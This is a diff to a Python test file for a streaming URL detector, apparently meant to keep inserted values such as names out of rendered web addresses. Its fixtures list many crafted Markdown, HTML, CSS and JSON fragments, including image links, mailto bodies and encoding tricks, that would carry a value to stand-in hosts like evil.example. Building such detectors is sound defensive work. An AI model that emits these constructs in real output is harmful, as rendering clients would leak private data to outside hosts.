@@ -37,7 +37,38 @@ INSIDE = [
     "[1]: https\\://192.0.2.1/§",
     "[1]: &#104;ttps&#58;&#x2f;/192.0.2.1/§",
     "![x][1]\n\n[1]: javascript&colon;§",
+    "[1]: &#104;&#116;&#116;&#112;&#115;://192.0.2.1/?q=§",
+    "[1]: htt&#112;s&#58;192.0.2.1/?q=§",
+    "bücher.example/?q=§",
+    "evil.xn--p1ai/?q=§",
+    "'https://evil.example/?q=\"§",
+    '<https://evil.example/?q="§>',
+    "<mailto:a@evil.example?body=§>",
 ]
+GOES_ON = [
+    r"![x](https://evil.example/\)§)",
+    r"![x](<https://evil.example/\>§>)",
+    "![x](https://evil.example/\u00a0§)",
+    "![x](https://evil.example/\x00§)",
+    "![x]\n\n[x]: <https://evil.example/ §>",
+    "![x]\n\n> [x]:\n> </a b §>",
+    '![x]\n\n[x]: https://evil.example/?q="§',
+    "![x]\n\n[x]: https://evil.example/`§",
+    "![x]\n\n[x]: https://evil.example/\u3000§",
+    "<p style='background:url(\"https://evil.example/)§\")'>",
+    r"<p style='background:url(https://evil.example/\)§)'>",
+    "<img alt=x' title='> ' src=\"h\nttps:/\n/192.0.2.1/?q=§",
+    "<https://evil.example/\u00a0§>",
+    "http:<a href=mailto:a@evil.example?body=§",
+    "https://a.example/![x]( https://evil.example/\u3000§",
+    "[ ![x](<a](https://evil.example/>\u3000§",
+    "[x](<img src='//evil.example/>§'>",
+    '[x]: mailto:a@evil.example?body="§',
+    '<a \n\n[x]: https://evil.example/>?q="§',
+    'url(\n[x]: https://evil.example/)?q="§',
+    "<img alt=a=' title='> ' src=\"h\nttps:/\n/192.0.2.1/?q=§",
+]
+"""Where the readers of Markdown, HTML and CSS do not yet end an address, or a tag."""
 OUTSIDE = [
     "Dear §",
     "[link](https://x.example/) §",
@@ -58,7 +89,17 @@ OUTSIDE = [
     "[a](https://x.example/a(b)c) §",
     "[1] §",
     "[Patient]: §",
+    "[Patient]: <b>§</b>",
     "Hello.World §",
+    '"https://x.example/a","§"',
+    '<a href="https://x.example/">§</a>',
+    "`https://x.example/`§",
+    '<x:person name="§',
+    "[x](https://x.example/a\\) §",
+    "Q&amp;A: §",
+    "[1]: https://x.example/ §",
+    '<td title="a>b">§',
+    "https://x.example/\u3000§",
 ]
 INSIDE_JSON = [
     r'{"url":"https:\/\/x.example\/§',
@@ -67,12 +108,25 @@ INSIDE_JSON = [
     r'{"h":"<img src=\"https://x/§',
     r'{"u":"https://x.example/a b \" §',
     r'{"u":"https://x.example/a\\§',
+    r'{"u":"https://x.example/\u0000§',
 ]
+SHOWN_AS_IT_STANDS = [
+    '{ ![x](https://evil.example/?q="§)',
+    r"{ ![x](https://evil.example/\n§)",
+    r'{"a":"![x](https://evil.example/\n§)',
+    "{ <img src='https://evil.example/?q=\"§",
+    '{\n[x]: https://evil.example/?q="§',
+    '{"a":"![x](<https://evil.example/","b":"§',
+]
+"""JSON source, or what begins like it, in which clients who show it as Markdown find an address."""
 OUTSIDE_JSON = [
     '{"url":"https://x.example/","name":"§"}',
     r'{"u":"https:\/\/x.example\/a\"b","n":"§',
     r'{"t":"see https://x.example/\nDear §',
     r'{"t":"C:\\","n":"§',
+    '{"t":"see https://x.example/","n":"§',
+    '{"t":"[x](https://x.example/)","n":"§',
+    r'{"t":"<img src=\"https://x.example/\">","n":"§',
 ]
 
 
@@ -85,17 +139,27 @@ def inside(text: str, *, in_json: bool) -> bool:
         cut_up.read(before[:cut])
         copied = cut_up.copy()
         copied.read(before[cut:])
-        assert (copied.inside, copied.url) == (whole.inside, whole.url)
+        assert (copied.inside, copied.urls) == (whole.inside, whole.urls)
     letters = UrlWatch(in_json=in_json)
     for letter in before:
         letters.read(letter)
-    assert (letters.inside, letters.url) == (whole.inside, whole.url)
+    assert (letters.inside, letters.urls) == (whole.inside, whole.urls)
     return whole.inside
 
 
 @pytest.mark.parametrize("text", INSIDE)
 def test_a_place_in_an_address_is_known_wherever_its_text_is_cut(text: str) -> None:
     assert inside(text, in_json=False)
+
+
+@pytest.mark.parametrize("text", GOES_ON)
+def test_what_ends_no_address_let_a_value_into_one(text: str) -> None:
+    assert inside(text, in_json=False)
+
+
+@pytest.mark.parametrize("text", SHOWN_AS_IT_STANDS)
+def test_a_quote_or_an_escape_of_json_let_a_value_into_an_address_that_is_shown_as_it_stands(text: str) -> None:
+    assert inside(text, in_json=True)
 
 
 @pytest.mark.parametrize("text", OUTSIDE)
@@ -118,7 +182,7 @@ def test_a_value_put_into_an_address_does_not_end_it() -> None:
     watch.read("https://e.example/?q=")
     watch.put("Jane Roe")
     assert watch.inside
-    assert watch.url == "https://e.example/?q=Jane Roe"
+    assert set(watch.urls or ()) == {"https://e.example/?q=Jane Roe"}
     assert not watch.in_host
 
 
@@ -150,14 +214,32 @@ def test_it_knows_whether_the_host_is_still_open(text: str, host: bool) -> None:
     assert (watch.inside, watch.in_host) == (True, host)
 
 
+def test_an_address_goes_on_from_json_to_text_and_back() -> None:
+    watch = UrlWatch(in_json=True)
+    watch.read('{ ![x](https://evil.example/?q="')
+    assert watch.copy(in_json=False).inside
+    text = UrlWatch()
+    text.read("![x](https://evil.example/")
+    source = text.copy(in_json=True)
+    assert source.inside
+    source.read('","b":"')
+    assert source.inside
+    source.read(") ")
+    assert not source.inside
+
+
 def test_an_address_too_long_to_be_known_is_one_all_the_same() -> None:
     watch = UrlWatch()
     watch.read("https://e.example/" + "a" * 10_000)
     assert watch.inside
-    assert watch.url is None
+    assert watch.urls is None
 
 
-@given(st.text(alphabet="ab:/.&;#47<>()[]\"'\\ \nhtps=w!u0068", max_size=60), st.booleans(), st.integers(0, 60))
+@given(
+    st.text(alphabet="ab:/.&;#47<>()[]\"'`\\ \nhtps=w!u0068rlimg\x00\xa0", max_size=60),
+    st.booleans(),
+    st.integers(0, 60),
+)
 def test_the_pieces_never_matter(text: str, in_json: bool, cut: int) -> None:  # noqa: FBT001
     whole, pieces = UrlWatch(in_json=in_json), UrlWatch(in_json=in_json)
     whole.read(text)
